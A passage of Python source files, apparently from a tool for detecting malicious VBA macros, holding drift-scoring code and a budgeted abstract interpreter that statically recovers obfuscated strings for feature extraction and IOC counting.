    schema = profile.get("schema", "")
    if not str(schema).startswith("repro.baseline/"):
        raise ValueError(f"{path}: unknown profile schema {schema!r}")
    return profile


# ----------------------------------------------------------------------
# Divergences


def _smoothed(
    counts: list[float], pseudocount: float = _PSEUDOCOUNT
) -> list[float]:
    smoothed = [max(0.0, float(count)) + pseudocount for count in counts]
    total = sum(smoothed)
    return [value / total for value in smoothed]


def psi(expected: list[float], actual: list[float]) -> float:
    """Population stability index between two bucket-count vectors.

    Industry folklore thresholds: < 0.1 stable, 0.1–0.25 shifting,
    > 0.25 drifted.  Buckets are Laplace-smoothed with half a count each
    side, so a genuinely novel bucket scores large but finite while a
    handful of tail observations missing from one small sample does not
    read as drift.
    """
    if len(expected) != len(actual):
        raise ValueError("PSI needs aligned bucket vectors")
    e = _smoothed(expected)
    a = _smoothed(actual)
    return sum((ai - ei) * math.log(ai / ei) for ei, ai in zip(e, a))


def kl_divergence(p: list[float], q: list[float]) -> float:
    """``KL(p || q)`` in nats over smoothed bucket-count vectors."""
    if len(p) != len(q):
        raise ValueError("KL needs aligned bucket vectors")
    cp = _smoothed(p)
    cq = _smoothed(q)
    return sum(pi * math.log(pi / qi) for pi, qi in zip(cp, cq))


# ----------------------------------------------------------------------
# Scoring


@dataclass(frozen=True)
class DriftThresholds:
    """Grading knobs for :func:`score_drift`."""

    #: PSI grades for distribution dimensions (score histogram, lint rules).
    psi_warn: float = 0.10
    psi_drift: float = 0.25
    #: standardized-mean-difference grades for feature columns.
    smd_warn: float = 0.50
    smd_drift: float = 1.00
    #: observations each side must have before a dimension is graded at
    #: all — tiny samples drift by noise alone.
    min_count: int = 20


DEFAULT_THRESHOLDS = DriftThresholds()


@dataclass(frozen=True)
class DriftDimension:
    """One scored dimension of a drift comparison."""

    name: str
    metric: str  # "psi" | "smd"
    value: float
    verdict: str  # "ok" | "warn" | "drift"
    baseline_count: int
    live_count: int
    detail: str = ""

    def to_dict(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "metric": self.metric,
            "value": self.value,
            "verdict": self.verdict,
            "baseline_count": self.baseline_count,
            "live_count": self.live_count,
            "detail": self.detail,
        }


@dataclass
class DriftReport:
    """All scored dimensions of one baseline-vs-live comparison."""

    dimensions: list[DriftDimension] = field(default_factory=list)

    @property
    def drifted(self) -> list[DriftDimension]:
        return [d for d in self.dimensions if d.verdict == "drift"]

    @property
    def warned(self) -> list[DriftDimension]:
        return [d for d in self.dimensions if d.verdict == "warn"]

    @property
    def ok(self) -> bool:
        return not self.drifted

    def to_dict(self) -> dict[str, Any]:
        return {
            "dimensions": [d.to_dict() for d in self.dimensions],
            "drifted": [d.name for d in self.drifted],
            "warned": [d.name for d in self.warned],
            "ok": self.ok,
        }

    def render(self) -> str:
        if not self.dimensions:
            return "DRIFT — no comparable dimensions (no shared instruments)"
        lines = [
            f"DRIFT — {len(self.drifted)} drifted, {len(self.warned)} "
            f"warning, {len(self.dimensions)} dimensions compared"
        ]
        lines.append(
            f"  {'dimension':<24} {'metric':>6} {'value':>8} "
            f"{'verdict':>8}  detail"
        )
        order = {"drift": 0, "warn": 1, "ok": 2}
        for dim in sorted(
            self.dimensions, key=lambda d: (order[d.verdict], -d.value)
        ):
            lines.append(
                f"  {dim.name:<24} {dim.metric:>6} {dim.value:>8.4f} "
                f"{dim.verdict:>8}  {dim.detail}"
            )
        return "\n".join(lines)


def _grade(value: float, warn: float, drift: float) -> str:
    if value >= drift:
        return "drift"
    if value >= warn:
        return "warn"
    return "ok"


def _histogram_dimensions(
    baseline: dict[str, Any],
    live: dict[str, Any],
    thresholds: DriftThresholds,
) -> list[DriftDimension]:
    """PSI over probability-valued histograms (``score.*``) shared by both."""
    dimensions = []
    base_histograms = baseline.get("histograms", {})
    live_histograms = live.get("histograms", {})
    for name in sorted(set(base_histograms) & set(live_histograms)):
        if not name.startswith("score."):
            continue
        base = base_histograms[name]
        actual = live_histograms[name]
        if tuple(base["buckets"]) != tuple(actual["buckets"]):
            continue  # bucket layouts diverged; nothing comparable
        if (
            base["count"] < thresholds.min_count
            or actual["count"] < thresholds.min_count
        ):
            dimensions.append(
                DriftDimension(
                    name, "psi", 0.0, "ok", base["count"], actual["count"],
                    "insufficient data",
                )
            )
            continue
        value = psi(base["counts"], actual["counts"])
        dimensions.append(
            DriftDimension(
                name,
                "psi",
                round(value, 6),
                _grade(value, thresholds.psi_warn, thresholds.psi_drift),
                base["count"],
                actual["count"],
                f"mean {base['sum'] / base['count']:.3f}"
                f" -> {actual['sum'] / actual['count']:.3f}",
            )
        )
    return dimensions


def _lint_rule_dimension(
    baseline: dict[str, Any],
    live: dict[str, Any],
    thresholds: DriftThresholds,
) -> DriftDimension | None:
    """PSI over the per-rule share of lint findings."""
    base_counters = baseline.get("counters", {})
    live_counters = live.get("counters", {})
    rules = sorted(
        name
        for name in set(base_counters) | set(live_counters)
        if name.startswith("lint.rule.")
    )
    if not rules:
        return None
    base_counts = [base_counters.get(name, 0) for name in rules]
    live_counts = [live_counters.get(name, 0) for name in rules]
    base_total = int(sum(base_counts))
    live_total = int(sum(live_counts))
    if base_total < thresholds.min_count or live_total < thresholds.min_count:
        return DriftDimension(
            "lint.rules", "psi", 0.0, "ok", base_total, live_total,
            "insufficient data",
        )
    value = psi(base_counts, live_counts)
    shifts = sorted(
        rules,
        key=lambda name: abs(
            live_counters.get(name, 0) / live_total
            - base_counters.get(name, 0) / base_total
        ),
        reverse=True,
    )
    mover = shifts[0].removeprefix("lint.rule.")
    return DriftDimension(
        "lint.rules",
        "psi",
        round(value, 6),
        _grade(value, thresholds.psi_warn, thresholds.psi_drift),
        base_total,
        live_total,
        f"top mover: {mover}",
    )


def _feature_dimensions(
    baseline: dict[str, Any],
    live: dict[str, Any],
    thresholds: DriftThresholds,
) -> list[DriftDimension]:
    """Standardized mean shift per feature set (worst column wins)."""
    base_moments = baseline.get("moments", {})
    live_moments = live.get("moments", {})
    by_set: dict[str, list[str]] = {}
    for name in sorted(set(base_moments) & set(live_moments)):
        parts = name.split(".")
        if len(parts) == 3 and parts[0] == "feature":
            by_set.setdefault(parts[1], []).append(name)
    dimensions = []
    for set_name, columns in sorted(by_set.items()):
        worst = 0.0
        worst_detail = ""
        base_count = live_count = 0
        graded = False
        for column in columns:
            base = base_moments[column]
            actual = live_moments[column]
            base_count = max(base_count, base["count"])
            live_count = max(live_count, actual["count"])
            if (
                base["count"] < thresholds.min_count
                or actual["count"] < thresholds.min_count
            ):
                continue
            graded = True
            base_mean = base["sum"] / base["count"]
            live_mean = actual["sum"] / actual["count"]
            scale = math.sqrt(
                max(0.0, base["sum_sq"] / base["count"] - base_mean**2)
            )
            if scale <= 0.0:
                # Constant baseline column: scale by the live spread
                # instead; only a shift with *no* spread anywhere is
                # treated as infinite.
                live_var = max(
                    0.0,
                    actual["sum_sq"] / actual["count"] - live_mean**2,
                )
                scale = math.sqrt(live_var)
            if scale <= 0.0:
                shift = 0.0 if live_mean == base_mean else float("inf")
            else:
                shift = abs(live_mean - base_mean) / scale
            if shift > worst:
                worst = shift
                worst_detail = (
                    f"{column.split('.')[-1]} mean "
                    f"{base_mean:.3f} -> {live_mean:.3f}"
                )
        if not graded:
            dimensions.append(
                DriftDimension(
                    f"feature.{set_name}", "smd", 0.0, "ok",
                    base_count, live_count, "insufficient data",
                )
            )
            continue
        capped = min(worst, 1e6)  # keep the artifact JSON-finite
        dimensions.append(
            DriftDimension(
                f"feature.{set_name}",
                "smd",
                round(capped, 6),
                _grade(capped, thresholds.smd_warn, thresholds.smd_drift),
                base_count,
                live_count,
                worst_detail,
            )
        )
    return dimensions


def score_drift(
    baseline: dict[str, Any],
    live: dict[str, Any],
    thresholds: DriftThresholds = DEFAULT_THRESHOLDS,
) -> DriftReport:
    """Compare two registry snapshots dimension by dimension.

    Both arguments are ``registry.to_dict()`` payloads (the ``metrics``
    member of a profile artifact).  Only instruments present on *both*
    sides are compared — a baseline captured without ``--recover`` never
    grades the ``R`` feature columns, for instance.
    """
    report = DriftReport()
    report.dimensions.extend(
        _histogram_dimensions(baseline, live, thresholds)
    )
    lint = _lint_rule_dimension(baseline, live, thresholds)
    if lint is not None:
        report.dimensions.append(lint)
    report.dimensions.extend(_feature_dimensions(baseline, live, thresholds))
    return report


# ----------------------------------------------------------------------
# Live monitoring


class DriftMonitor:
    """Periodically score a live registry against a frozen baseline.

    ``tick()`` is cheap to call from dispatch loops: it re-evaluates at
    most every ``interval_s`` seconds.  Each evaluation publishes one
    ``drift.<dimension>`` gauge per dimension plus
    ``drift.dimensions_drifted`` (so the `/metrics` endpoint exposes live
    drift scores), and — when the registry buffers events — appends one
    validated ``"drift"`` trace event per dimension.
    """

    def __init__(
        self,
        baseline: dict[str, Any],
        registry: MetricsRegistry,
        *,
        thresholds: DriftThresholds = DEFAULT_THRESHOLDS,
        interval_s: float = 5.0,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        # Accept a profile artifact or a bare metrics snapshot.
        self.baseline = baseline.get("metrics", baseline)
        self.registry = registry
        self.thresholds = thresholds
        self.interval_s = float(interval_s)
        self.clock = clock
        self.last_report: DriftReport | None = None
        self._last_evaluated_at: float | None = None

    def tick(self, now: float | None = None) -> DriftReport | None:
        """Re-evaluate if the interval elapsed; returns the fresh report."""
        if not self.registry.enabled:
            return None
        if now is None:
            now = self.clock()
        if (
            self._last_evaluated_at is not None
            and now - self._last_evaluated_at < self.interval_s
        ):
            return None
        return self.evaluate(now)

    def evaluate(self, now: float | None = None) -> DriftReport:
        """Score right now, publish gauges, and buffer drift events."""
        if now is None:
            now = self.clock()
        self._last_evaluated_at = now
        registry = self.registry
        report = score_drift(
            self.baseline, registry.to_dict(), self.thresholds
        )
        self.last_report = report
        if not registry.enabled:
            return report
        for dimension in report.dimensions:
            registry.gauge(f"drift.{dimension.name}").set(dimension.value)
        registry.gauge("drift.dimensions_drifted").set(len(report.drifted))
        if registry.trace:
            from repro.obs.events import validate_event

            stamp = time.perf_counter()
            pid = os.getpid()
            for dimension in report.dimensions:
                registry.events.append(
                    validate_event(
                        {
                            "type": "drift",
                            "name": dimension.name,
                            "ts": stamp,
                            "metric": dimension.metric,
                            "value": dimension.value,
                            "verdict": dimension.verdict,
                            "pid": pid,
                        }
                    )
                )
        return report
