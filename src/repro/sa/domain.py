"""The abstract value domain for :mod:`repro.sa`.

A flat constant-propagation lattice: every value is either a *concrete*
VBA value (``str``, ``int``, ``float``, ``bool``, ``None``, or a Python
``list`` standing in for a 1-D array whose elements are themselves
abstract values) or :data:`TOP` — "any value".  There is no bottom
element: unreachable code is simply not executed.

``join`` is the lattice join: equal concrete values stay concrete,
anything else widens to ⊤.  Because the lattice has height 2, chaotic
iteration over loop bodies converges after at most one widening per
variable, which is what keeps the analyzer's loop handling cheap.
"""

from __future__ import annotations


class _Top:
    """The ⊤ element: a value the analyzer cannot pin down statically."""

    __slots__ = ()
    _instance: "_Top | None" = None

    def __new__(cls) -> "_Top":
        if cls._instance is None:
            cls._instance = super().__new__(cls)
        return cls._instance

    def __repr__(self) -> str:
        return "⊤"

    def __bool__(self) -> bool:  # pragma: no cover - misuse guard
        raise TypeError("⊤ has no truth value; use is_top() and branch joins")


#: The single ⊤ instance.  Compare with ``is``.
TOP = _Top()


def is_top(value: object) -> bool:
    return value is TOP


def is_concrete(value: object) -> bool:
    """True when ``value`` contains no ⊤ anywhere (arrays included)."""
    if value is TOP:
        return False
    if isinstance(value, list):
        return all(is_concrete(item) for item in value)
    return True


def join(left: object, right: object) -> object:
    """Lattice join of two abstract values."""
    if left is TOP or right is TOP:
        return TOP
    if isinstance(left, list) and isinstance(right, list):
        if len(left) != len(right):
            return TOP
        return [join(a, b) for a, b in zip(left, right)]
    if isinstance(left, list) or isinstance(right, list):
        return TOP
    # bool is an int subclass; require identical types so True != -1 stays
    # distinguishable the way VBA's Variant keeps them distinguishable.
    if type(left) is not type(right):
        if isinstance(left, (int, float)) and isinstance(right, (int, float)) and not (
            isinstance(left, bool) or isinstance(right, bool)
        ):
            return left if left == right else TOP
        return TOP
    return left if left == right else TOP


def join_envs(
    target: dict[str, object], other: dict[str, object]
) -> dict[str, object]:
    """Join two variable environments in place (into ``target``).

    A name bound in only one environment may or may not have been
    assigned, so it widens to ⊤.
    """
    for key in set(target) | set(other):
        if key in target and key in other:
            target[key] = join(target[key], other[key])
        else:
            target[key] = TOP
    return target
