"""The "R" (recovered-string) feature set.

Entropy of *decoded* content is a stronger obfuscation symptom than
raw-stream entropy, and the count of decoded IOCs is a direct payload
signal.  This module digests one :class:`~repro.sa.records.StringRecovery`
into an array-friendly :class:`RecoverySummary` and registers the ``R``
feature set over those summaries — with a column-batch kernel carrying
the PR 6 parity contract (batch rows are bit-identical to per-row
extraction, asserted in tests).
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

import numpy as np

from repro.features.entropy import shannon_entropy
from repro.features.registry import register_feature_set
from repro.sa.iocs import count_iocs
from repro.sa.records import StringRecovery

R_FEATURE_NAMES: tuple[str, ...] = (
    "R1_recovered_count",
    "R2_recovered_chars",
    "R3_recovered_entropy",
    "R4_entropy_delta",
    "R5_recovered_ioc_count",
    "R6_budget_exhausted",
)


@dataclass(frozen=True, slots=True)
class RecoverySummary:
    """Pre-digested recovery numbers: everything the R kernel reads.

    All fields are plain floats so a batch of summaries is one
    ``np.array`` construction away from the feature matrix — the same
    array-backed-digest shape the V/J kernels use.
    """

    recovered_count: float
    recovered_chars: float
    recovered_entropy: float
    raw_entropy: float
    ioc_count: float
    exhausted: float

    def row(self) -> tuple[float, ...]:
        return (
            self.recovered_count,
            self.recovered_chars,
            self.recovered_entropy,
            self.recovered_entropy - self.raw_entropy
            if self.recovered_count
            else 0.0,
            self.ioc_count,
            self.exhausted,
        )


def summarize_recovery(
    recovery: StringRecovery, raw_source: str
) -> RecoverySummary:
    """Digest one recovery result against the macro's raw source."""
    values = recovery.values()
    decoded = "\n".join(values)
    return RecoverySummary(
        recovered_count=float(len(values)),
        recovered_chars=float(sum(len(value) for value in values)),
        recovered_entropy=shannon_entropy(decoded) if decoded else 0.0,
        raw_entropy=shannon_entropy(raw_source) if raw_source else 0.0,
        ioc_count=float(count_iocs(values)),
        exhausted=1.0 if recovery.exhausted else 0.0,
    )


#: The summary for a macro the recover stage skipped or could not parse.
EMPTY_SUMMARY = RecoverySummary(0.0, 0.0, 0.0, 0.0, 0.0, 0.0)


def r_features_from_summary(summary: RecoverySummary) -> np.ndarray:
    """Per-row extractor: one summary → the 6-wide R vector."""
    return np.asarray(summary.row(), dtype=np.float64)


def r_features_batch(summaries: Sequence[RecoverySummary]) -> np.ndarray:
    """Column-batch kernel: summaries → the ``(n, 6)`` float64 matrix.

    Arithmetic is identical to :func:`r_features_from_summary` (same
    ``row()`` products), so batch output is bit-identical to stacked
    per-row extraction.
    """
    return np.asarray(
        [summary.row() for summary in summaries], dtype=np.float64
    ).reshape(len(summaries), len(R_FEATURE_NAMES))


register_feature_set(
    "R",
    r_features_from_summary,
    R_FEATURE_NAMES,
    description="Recovered-string features from the repro.sa static pass",
    batch_extractor=r_features_batch,
)
