"""Budgeted constant-folding static analysis for hidden-string recovery.

O2/O3 obfuscation hides payload strings behind decoder expressions —
``Chr()`` chains, ``StrReverse``, ``Replace``, concat loops.  This package
folds those expressions *statically*: an intraprocedural abstract
interpreter (:mod:`repro.sa.interpreter`) propagates constants over the
:mod:`repro.vba` AST under a hard :class:`~repro.resilience.budgets.SABudget`,
widening anything it cannot prove to ⊤ (:mod:`repro.sa.domain`), and
reports every string it folds out as a
:class:`~repro.sa.records.RecoveredString`.

The engine surfaces this as the ``RecoverStage`` (``repro scan --recover``);
recovered strings feed the ``SA`` lint rules, the ``R`` feature set
(:mod:`repro.sa.features`), IOC classification (:mod:`repro.sa.iocs`) and
an avsim signature re-scan.
"""

from repro.resilience.budgets import (
    DEEP_SA_BUDGET,
    DEFAULT_SA_BUDGET,
    SA_BUDGET_PRESETS,
    STRICT_SA_BUDGET,
    SABudget,
)
from repro.sa.domain import TOP, is_concrete, is_top, join, join_envs
from repro.sa.features import (
    EMPTY_SUMMARY,
    R_FEATURE_NAMES,
    RecoverySummary,
    r_features_batch,
    r_features_from_summary,
    summarize_recovery,
)
from repro.sa.interpreter import AbstractInterpreter, recover_strings
from repro.sa.iocs import IOC_PATTERNS, count_iocs, find_iocs, ioc_kinds, scan_values
from repro.sa.records import EMPTY_RECOVERY, RecoveredString, StringRecovery

__all__ = [
    "AbstractInterpreter",
    "DEEP_SA_BUDGET",
    "DEFAULT_SA_BUDGET",
    "EMPTY_RECOVERY",
    "EMPTY_SUMMARY",
    "IOC_PATTERNS",
    "R_FEATURE_NAMES",
    "RecoveredString",
    "RecoverySummary",
    "SABudget",
    "SA_BUDGET_PRESETS",
    "STRICT_SA_BUDGET",
    "StringRecovery",
    "TOP",
    "count_iocs",
    "find_iocs",
    "ioc_kinds",
    "is_concrete",
    "is_top",
    "join",
    "join_envs",
    "r_features_batch",
    "r_features_from_summary",
    "recover_strings",
    "scan_values",
    "summarize_recovery",
]
