"""Recovered-string record schema for :mod:`repro.sa`.

:class:`StringRecovery` is what one static-analysis pass over one macro
produces.  It is attached to the engine's ``MacroRecord`` by the
``RecoverStage`` and serialized into the JSON output, so its shape is
part of the engine schema (``repro.engine.records.ENGINE_SCHEMA_VERSION``).
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class RecoveredString:
    """One string value the analyzer folded out of obfuscated code.

    Attributes:
        value: the recovered (decoded) string.
        line: source line of the expression that produced it.
        origin: the operation that produced it — a builtin name
            (``"chr"``, ``"replace"`` …), ``"&"``/``"+"`` for
            concatenation folds, or ``"call"`` for user-function returns.
    """

    value: str
    line: int
    origin: str

    def to_dict(self) -> dict:
        return {"value": self.value, "line": self.line, "origin": self.origin}


@dataclass(frozen=True, slots=True)
class StringRecovery:
    """The full result of one budgeted static-analysis pass.

    Always produced, never raised past: a macro the parser rejects yields
    ``parse_failed=True`` with zero strings; a macro that blows the budget
    yields ``exhausted=True`` with whatever was recovered before the
    budget tripped.
    """

    strings: tuple[RecoveredString, ...] = ()
    #: the analysis hit a budget limit and degraded remaining work to ⊤
    exhausted: bool = False
    #: which budget limit tripped first ("" when not exhausted)
    exhausted_reason: str = ""
    #: the macro source failed to parse even in tolerant mode
    parse_failed: bool = False
    #: abstract-interpretation steps consumed
    steps_used: int = 0
    #: the max_strings cap dropped further distinct recovered values
    truncated: bool = False
    #: avsim signature names matching recovered strings (RecoverStage fills)
    signature_hits: tuple[str, ...] = ()
    #: IOC kinds found in recovered strings, e.g. ("url", "exe") (RecoverStage fills)
    ioc_kinds: tuple[str, ...] = field(default=())

    def values(self) -> list[str]:
        """The recovered string values, de-duplicated in recovery order."""
        return [record.value for record in self.strings]

    def to_dict(self) -> dict:
        return {
            "strings": [record.to_dict() for record in self.strings],
            "exhausted": self.exhausted,
            "exhausted_reason": self.exhausted_reason,
            "parse_failed": self.parse_failed,
            "steps_used": self.steps_used,
            "truncated": self.truncated,
            "signature_hits": list(self.signature_hits),
            "ioc_kinds": list(self.ioc_kinds),
        }


#: The do-nothing recovery attached when the stage is disabled or skipped.
EMPTY_RECOVERY = StringRecovery()
