"""Budgeted constant-folding abstract interpreter over the VBA AST.

This is the static counterpart of :mod:`repro.vba.interpreter`: instead of
*executing* a macro it *folds* it — propagating constants through the
same AST and calling the same string builtins (``Chr``, ``StrReverse``,
``Replace``, ``Mid`` …) on concrete arguments, so the payload strings that
O2/O3 obfuscation hides behind decoder expressions fall out without
running anything.  Everything it cannot pin down — host objects, I/O,
unknown names, over-budget loops — widens to ⊤ (:mod:`repro.sa.domain`)
and the analysis keeps going, which makes it *total*: every input, no
matter how hostile, terminates within the :class:`~repro.resilience.budgets.SABudget`
and yields a :class:`~repro.sa.records.StringRecovery`.

Design notes:

* The value domain is the flat constant lattice.  ``If`` with a ⊤
  condition executes *all* branches on environment copies and joins;
  loops whose trip count is concrete and under budget run concretely,
  anything else is havoced by chaotic iteration to the (height-2)
  fixpoint.  Recovered strings are therefore a *superset* of what one
  dynamic execution observes — the parity property the tests assert.
* Builtins are the dynamic interpreter's own ``_BUILTINS`` table called
  on concrete arguments (their coercions are static methods), wrapped so
  any :class:`~repro.vba.interpreter.VBARuntimeError` becomes ⊤ instead
  of aborting.
* Budgets degrade, never raise: step exhaustion aborts the pass with
  partial results; loop-cap and size-cap trips only widen locally and
  flag ``exhausted`` on the result.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.obs.metrics import NULL_REGISTRY
from repro.resilience.budgets import DEFAULT_SA_BUDGET, SABudget
from repro.sa.domain import TOP, is_concrete, join, join_envs
from repro.sa.records import RecoveredString, StringRecovery
from repro.vba import ast_nodes as ast
from repro.vba.interpreter import (
    _BUILTINS,
    Interpreter,
    VBARuntimeError,
    _compare,
    _to_vba_string,
)
from repro.vba.parser import VBAParseError, parse_module


class _BudgetExhausted(Exception):
    """Internal: the step budget tripped; abort the pass with partials."""

    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason


class _ExitSignal(Exception):
    def __init__(self, kind: str) -> None:
        self.kind = kind


_MISSING = object()

#: chaotic-iteration cap for loop havoc; the flat lattice converges in
#: one widening per variable, this is a hard backstop
_MAX_HAVOC_PASSES = 8

#: builtins whose output size is driven by an integer argument — precheck
#: the count against the string-length budget before calling
_SIZE_PRODUCING = frozenset({"space", "string", "string$"})


@dataclass
class AbstractInterpreter:
    """Folds one module under a budget, collecting recovered strings."""

    module: ast.Module
    budget: SABudget = field(default_factory=lambda: DEFAULT_SA_BUDGET)

    def __post_init__(self) -> None:
        self._globals: dict[str, object] = {}
        self._steps = 0
        self._depth = 0
        self._recovered: dict[str, RecoveredString] = {}
        self._truncated = False
        self._exhausted_reason = ""

    # ------------------------------------------------------------------
    # Entry points

    def run(self) -> None:
        """Fold module-level code, then every procedure with ⊤ arguments."""
        try:
            for statement in self.module.module_statements:
                self._execute(statement, self._globals)
            for procedure in self.module.procedures.values():
                args: list[object] = [TOP] * len(procedure.params)
                self._call_procedure(procedure, args)
        except _BudgetExhausted as exhausted:
            self._note_exhausted(exhausted.reason)
        except _ExitSignal:
            pass
        except RecursionError:
            self._note_exhausted("recursion")

    def result(self) -> StringRecovery:
        return StringRecovery(
            strings=tuple(_maximal_strings(list(self._recovered.values()))),
            exhausted=bool(self._exhausted_reason),
            exhausted_reason=self._exhausted_reason,
            steps_used=self._steps,
            truncated=self._truncated,
        )

    # ------------------------------------------------------------------
    # Bookkeeping

    def _tick(self) -> None:
        self._steps += 1
        if self._steps > self.budget.max_steps:
            raise _BudgetExhausted("steps")

    def _note_exhausted(self, reason: str) -> None:
        if not self._exhausted_reason:
            self._exhausted_reason = reason

    def _record(self, value: object, line: int, origin: str) -> None:
        if not isinstance(value, str):
            return
        if not (
            self.budget.min_string_length
            <= len(value)
            <= self.budget.max_string_length
        ):
            return
        if value in self._recovered:
            return
        if len(self._recovered) >= self.budget.max_strings:
            self._truncated = True
            self._note_exhausted("strings")
            return
        self._recovered[value] = RecoveredString(value, line, origin)

    # ------------------------------------------------------------------
    # Procedures

    def _call_procedure(
        self, procedure: ast.Procedure, args: list[object]
    ) -> object:
        if self._depth >= self.budget.max_call_depth:
            self._note_exhausted("call_depth")
            return TOP
        locals_: dict[str, object] = {
            param.lower(): (args[index] if index < len(args) else None)
            for index, param in enumerate(procedure.params)
        }
        if procedure.kind == "function":
            locals_[procedure.name.lower()] = None
        self._depth += 1
        try:
            for statement in procedure.body:
                self._execute(statement, locals_)
        except _ExitSignal as signal:
            if signal.kind not in ("sub", "function"):
                pass  # stray Exit For/Do: treat as procedure end
        finally:
            self._depth -= 1
        if procedure.kind == "function":
            value = locals_.get(procedure.name.lower())
            self._record(value, procedure.line, "call")
            return value
        return None

    # ------------------------------------------------------------------
    # Statement folding

    def _execute(self, statement: ast.Statement, env: dict[str, object]) -> None:
        self._tick()
        method = self._DISPATCH[type(statement)]
        method(self, statement, env)

    def _exec_dim(self, statement: ast.DimStmt, env: dict[str, object]) -> None:
        for name, extent in statement.names:
            if extent is None:
                env.setdefault(name.lower(), None)
                continue
            size = self._eval(extent, env)
            if isinstance(size, bool) or not isinstance(size, (int, float)):
                env[name.lower()] = TOP
                continue
            size = int(size)
            if not 0 <= size < self.budget.max_loop_iterations:
                self._note_exhausted("array_size")
                env[name.lower()] = TOP
                continue
            env[name.lower()] = [None] * (size + 1)

    def _exec_const(self, statement: ast.ConstStmt, env: dict[str, object]) -> None:
        env[statement.name.lower()] = self._eval(statement.value, env)

    def _exec_assign(self, statement: ast.Assign, env: dict[str, object]) -> None:
        value = self._eval(statement.value, env)
        target = statement.target
        if isinstance(target, ast.Name):
            self._store(target.name, value, env)
            return
        if isinstance(target, ast.MemberAccess):
            return  # host-object property write: inert
        # ``arr(i) = value`` element assignment.
        container = self._load(target.name, env)
        if container is TOP or not isinstance(container, list):
            self._store(target.name, TOP, env)
            return
        if len(target.args) != 1:
            self._store(target.name, TOP, env)
            return
        index = self._eval(target.args[0], env)
        if (
            isinstance(index, bool)
            or not isinstance(index, (int, float))
            or not 0 <= int(index) < len(container)
        ):
            # Unknown or out-of-range index: the whole array is now unknown.
            self._store(target.name, TOP, env)
            return
        container[int(index)] = value

    def _exec_if(self, statement: ast.IfStmt, env: dict[str, object]) -> None:
        remaining: list[tuple[ast.Statement, ...]] = []
        for condition, body in statement.branches:
            value = self._eval(condition, env)
            truth = self._truthy(value)
            if truth is True:
                if remaining:
                    remaining.append(body)
                    break
                for inner in body:
                    self._execute(inner, env)
                return
            if truth is False:
                continue
            remaining.append(body)  # ⊤ condition: branch may or may not run
        else:
            if not remaining:
                for inner in statement.else_body:
                    self._execute(inner, env)
                return
            remaining.append(statement.else_body)
        # At least one condition was ⊤: fold every possibly-taken branch on
        # a copy of the environment and join the outcomes.
        joined: dict[str, object] | None = None
        for body in remaining:
            branch_env = dict(env)
            try:
                for inner in body:
                    self._execute(inner, branch_env)
            except _ExitSignal:
                pass  # the exit may not happen on other paths; keep folding
            if joined is None:
                joined = branch_env
            else:
                join_envs(joined, branch_env)
        if joined is not None:
            env.clear()
            env.update(joined)

    def _exec_for(self, statement: ast.ForStmt, env: dict[str, object]) -> None:
        start = self._eval(statement.start, env)
        end = self._eval(statement.end, env)
        step: object = (
            self._eval(statement.step, env) if statement.step is not None else 1
        )
        var = statement.var.lower()
        concrete = (
            isinstance(start, (int, float))
            and isinstance(end, (int, float))
            and isinstance(step, (int, float))
            and not isinstance(step, bool)
            and step != 0
        )
        if concrete:
            trips = int((end - start) / step) + 1 if (end - start) * step >= 0 else 0
            if trips <= self.budget.max_loop_iterations:
                current = start
                try:
                    while (step > 0 and current <= end) or (
                        step < 0 and current >= end
                    ):
                        env[var] = current
                        for inner in statement.body:
                            self._execute(inner, env)
                        bound = env.get(var)
                        if isinstance(bound, bool) or not isinstance(
                            bound, (int, float)
                        ):
                            break  # body widened the loop var: havoc below
                        current = bound + step
                    else:
                        return
                except _ExitSignal as signal:
                    if signal.kind != "for":
                        raise
                    return
            else:
                self._note_exhausted("loop_iterations")
        self._havoc_loop(statement.body, env, loop_vars=(var,))

    def _exec_for_each(
        self, statement: ast.ForEachStmt, env: dict[str, object]
    ) -> None:
        iterable = self._eval(statement.iterable, env)
        var = statement.var.lower()
        if (
            isinstance(iterable, list)
            and len(iterable) <= self.budget.max_loop_iterations
        ):
            try:
                for item in iterable:
                    env[var] = item
                    for inner in statement.body:
                        self._execute(inner, env)
            except _ExitSignal as signal:
                if signal.kind != "for":
                    raise
            return
        if isinstance(iterable, list):
            self._note_exhausted("loop_iterations")
        self._havoc_loop(statement.body, env, loop_vars=(var,))

    def _exec_do(self, statement: ast.DoLoopStmt, env: dict[str, object]) -> None:
        iterations = 0
        try:
            if not statement.pre_test:
                # Post-test loops run the body at least once.
                for inner in statement.body:
                    self._execute(inner, env)
                iterations = 1
                truth = self._check_do(statement, env)
                if truth is False:
                    return
                if truth is None:
                    self._havoc_loop(statement.body, env)
                    return
            while True:
                if statement.pre_test:
                    truth = self._check_do(statement, env)
                    if truth is False:
                        return
                    if truth is None:
                        self._havoc_loop(statement.body, env)
                        return
                if iterations >= self.budget.max_loop_iterations:
                    self._note_exhausted("loop_iterations")
                    self._havoc_loop(statement.body, env)
                    return
                for inner in statement.body:
                    self._execute(inner, env)
                iterations += 1
                if not statement.pre_test:
                    truth = self._check_do(statement, env)
                    if truth is False:
                        return
                    if truth is None:
                        self._havoc_loop(statement.body, env)
                        return
        except _ExitSignal as signal:
            if signal.kind != "do":
                raise

    def _check_do(
        self, statement: ast.DoLoopStmt, env: dict[str, object]
    ) -> bool | None:
        """Do/While continue-condition: True, False, or None for ⊤."""
        truth = self._truthy(self._eval(statement.condition, env))
        if truth is None:
            return None
        return truth if statement.condition_kind == "while" else not truth

    def _havoc_loop(
        self,
        body: tuple[ast.Statement, ...],
        env: dict[str, object],
        loop_vars: tuple[str, ...] = (),
    ) -> None:
        """Chaotic iteration to the loop fixpoint: run the body on an env
        copy (loop variables ⊤), join, repeat until stable."""
        for var in loop_vars:
            env[var] = TOP
        for _pass in range(_MAX_HAVOC_PASSES):
            snapshot = dict(env)
            pass_env = dict(env)
            try:
                for inner in body:
                    self._execute(inner, pass_env)
            except _ExitSignal:
                pass
            join_envs(env, pass_env)
            for var in loop_vars:
                env[var] = TOP
            if env == snapshot:
                return
        # Backstop: force every bound name to ⊤.
        for key in env:
            env[key] = TOP

    def _exec_with(self, statement: ast.WithStmt, env: dict[str, object]) -> None:
        self._eval(statement.subject, env)
        for inner in statement.body:
            self._execute(inner, env)

